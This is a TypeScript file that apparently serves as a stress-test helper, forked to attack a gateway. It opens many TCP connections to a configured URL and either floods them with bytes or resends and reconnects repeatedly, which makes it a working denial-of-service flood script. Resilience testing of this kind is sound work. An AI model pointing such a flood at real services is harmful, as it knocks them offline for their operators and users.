/** A program that attacks a gateway from its own process until it is killed. */
import { connect, type Socket } from 'node:net';

export interface AttackPlan {
  readonly url: string;
  readonly connections: number;
  /** The bytes that every connection sends: repeatedly if it reads nothing, otherwise once. */
  readonly bytes: string;
  readonly reads: boolean;
}

const plan: AttackPlan = JSON.parse(process.argv[2] ?? '');
const { hostname, port } = new URL(plan.url);
/** A pause, because opening connections as fast as possible would be a different attack. */
const againAfterMs = 1_000;

let opened = 0;

function attack(): void {
  const socket = connect(Number(port), hostname);
  socket.on('error', () => {});
  socket.on('close', () => setTimeout(attack, againAfterMs));
  socket.on('connect', () => {
    opened += 1;
    if (opened === plan.connections) process.send?.('attacking');
    if (plan.reads) sendOnce(socket);
    else flood(socket);
  });
}

/** Reconnects after every response. */
function sendOnce(socket: Socket): void {
  socket.write(plan.bytes);
  socket.on('data', () => setTimeout(() => socket.destroy(), againAfterMs));
}

function flood(socket: Socket): void {
  socket.pause();
  const writeOn = () => {
    while (socket.write(plan.bytes));
  };
  socket.on('drain', writeOn);
  writeOn();
}

for (let count = 0; count < plan.connections; count += 1) attack();
